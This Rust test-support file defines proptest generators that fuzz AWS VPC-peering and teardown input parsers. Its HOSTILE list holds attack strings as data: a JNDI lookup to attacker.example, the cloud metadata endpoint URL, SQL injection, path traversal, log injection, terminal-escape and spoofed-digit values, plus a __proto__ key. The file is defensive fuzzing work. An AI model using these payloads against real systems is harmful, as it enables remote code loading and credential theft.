//! What is fed to the parsers: sound input with a few things replaced, what attackers try, and anything at all.

use proptest::collection::{btree_map, vec};
use proptest::prelude::*;
use proptest::sample::select;
use proptest::strategy::ValueTree;
use proptest::test_runner::TestRunner;
use serde_json::{Value, json};
use std::collections::BTreeMap;

const SOUND: [&str; 15] = [
    "vpc-0a1b2c3d",
    "vpc-0a1b2c3e",
    "vpc-0123456789abcdef0",
    "rtb-0a1b2c3d",
    "subnet-0a1b2c3d",
    "us-east-1",
    "eu-west-1",
    "123456789012",
    "222222222222",
    "all",
    "main",
    "none",
    "10.2.0.0/16",
    "2600:1f00::/56",
    "on",
];
const HOSTILE: [&str; 16] = [
    "vpc-0a1b2c3d\n",
    "vpc-0a1b2c3d\u{0}",
    "vpc-0A1B2C3D",
    "vpc-０a1b2c3d",
    "vpc-0a1b2c3d@eu-west-1@222222222222@x",
    "1２3456789012",
    "us-east-1.attacker.example",
    "us-east-1/../..",
    "us-east-1@attacker.example",
    "arn:aws:iam::222222222222:role/admin",
    "http://169.254.169.254/latest/meta-data",
    "{\"level\":\"ERROR\"}\n{\"level\":\"INFO\"}",
    "\u{1b}[2J\u{202e}",
    "{% $states.input %}",
    "${jndi:ldap://attacker.example}",
    "' OR 1=1 --",
];
const FIELDS: [&str; 19] = [
    "VpcId",
    "Region",
    "OwnerId",
    "PeerVpcId",
    "PeerRegion",
    "PeerOwnerId",
    "Name",
    "Tags",
    "Routes",
    "PeerRoutes",
    "DnsResolution",
    "DryRun",
    "Tables",
    "Subnets",
    "TableTags",
    "Destinations",
    "RoleArn",
    "Endpoint",
    "__proto__",
];

pub(super) fn text() -> impl Strategy<Value = String> {
    prop_oneof![
        6 => select(&SOUND[..]).prop_map(str::to_owned),
        3 => select(&HOSTILE[..]).prop_map(str::to_owned),
        1 => any::<String>(),
        1 => "(vpc|rtb|pcx)-[0-9a-fA-F]{7,18}",
        1 => "[a-z]{1,4}(-[a-z]{1,13}){0,3}-[0-9]{0,3}",
        1 => (select(&SOUND[..]), 200..2000_usize).prop_map(|(word, times)| word.repeat(times)),
    ]
}

/// A JSON value of some depth, whose objects have our fields and others.
pub(super) fn value() -> impl Strategy<Value = Value> {
    let leaf = prop_oneof![
        6 => text().prop_map(Value::from),
        1 => Just(Value::Null),
        1 => any::<bool>().prop_map(Value::from),
        1 => any::<i64>().prop_map(Value::from),
        1 => any::<f64>().prop_map(Value::from),
    ];
    leaf.prop_recursive(3, 16, 4, |inner| {
        let key = prop_oneof![select(&FIELDS[..]).prop_map(str::to_owned), text()];
        prop_oneof![
            vec(inner.clone(), 0..4).prop_map(Value::from),
            btree_map(key, inner, 0..4).prop_map(|fields| Value::Object(fields.into_iter().collect())),
        ]
    })
}

/// An input of the teardown machine.
pub(super) fn teardown() -> impl Strategy<Value = Value> {
    broken([ends(), vec![("DryRun", json!(false))]].concat())
}

/// The two ends, as both machines' inputs spell them.
fn ends() -> Vec<(&'static str, Value)> {
    vec![
        ("VpcId", json!("vpc-0a1b2c3d")),
        ("PeerVpcId", json!("vpc-0123456789abcdef0")),
        ("Region", json!("us-east-1")),
        ("PeerRegion", json!("eu-west-1")),
        ("OwnerId", json!("123456789012")),
        ("PeerOwnerId", json!("222222222222")),
    ]
}

/// An input of the peering machine.
pub(super) fn request() -> impl Strategy<Value = Value> {
    let further = vec![
        ("Name", json!("a name")),
        ("Tags", json!({"team": "payments"})),
        ("Routes", json!({"Tables": ["rtb-0a1b2c3d"], "Destinations": ["10.0.0.7", "2600:1f00::/56"]})),
        ("PeerRoutes", json!({"TableTags": {"tier": "private"}})),
        ("DnsResolution", json!(true)),
        ("DryRun", json!(false)),
    ];
    broken([ends(), further].concat())
}

/// A sound input of which some fields are left out, some replaced and some added; now and then anything at all.
fn broken(sound: Vec<(&'static str, Value)>) -> impl Strategy<Value = Value> {
    let kept = vec(any::<bool>(), sound.len() - 2);
    let replaced = btree_map(select(&FIELDS[..]), value(), 0..3);
    let changed = (kept, replaced).prop_map(move |(kept, replaced)| {
        let kept = [true, true].into_iter().chain(kept);
        let mut fields: BTreeMap<&str, Value> =
            sound.clone().into_iter().zip(kept).filter_map(|(field, keep)| keep.then_some(field)).collect();
        fields.extend(replaced);
        json!(fields)
    });
    prop_oneof![8 => changed, 1 => value()]
}

/// An envelope whose fields may be missing or anything.
pub(super) fn envelope(detail: impl Strategy<Value = Value>) -> impl Strategy<Value = Value> {
    let arn = (text(), text(), text(), text())
        .prop_map(|(service, region, account, id)| json!([format!("arn:aws:{service}:{region}:{account}:vpc/{id}")]));
    let sound_arns = vec(select(&["123456789012", "222222222222"][..]), 1..3).prop_map(|accounts| {
        accounts.iter().map(|account| json!(format!("arn:aws:ec2:us-east-1:{account}:vpc/vpc-0a1b2c3d"))).collect()
    });
    let kind = prop_oneof![
        4 => Just(("aws.tag".to_owned(), "Tag Change on Resource".to_owned())),
        2 => Just(("isthmus".to_owned(), "VPC Peering Active".to_owned())),
        1 => (text(), text()),
    ];
    let account = prop_oneof![4 => select(&["123456789012", "222222222222"][..]).prop_map(Value::from), 1 => value()];
    let id = prop_oneof![4 => Just(json!("0c0ffee0-0000-4000-8000-000000000003")), 1 => text().prop_map(Value::from)];
    (kind, account, id, prop_oneof![4 => sound_arns, 1 => arn, 1 => value()], detail, 0..20_u8).prop_map(
        |((source, detail_type), account, id, resources, detail, left_out)| {
            let mut event = json!({
                "version": "0", "id": id, "detail-type": detail_type, "source": source, "account": account,
                "time": "2026-01-02T03:04:05Z", "region": "us-east-1", "resources": resources, "detail": detail,
            });
            let left_out = ["id", "account", "resources", "detail"].get(usize::from(left_out));
            if let (Some(fields), Some(field)) = (event.as_object_mut(), left_out) {
                fields.remove(*field);
            }
            event
        },
    )
}

/// How many of a thousand samples that holds for: a generator that yields only the one kind would test half.
pub(super) fn share<T: std::fmt::Debug>(samples: impl Strategy<Value = T>, holds: impl Fn(T) -> bool) -> usize {
    let mut runner = TestRunner::deterministic();
    (0..1000).filter(|_| holds(samples.new_tree(&mut runner).expect("a sample").current())).count()
}
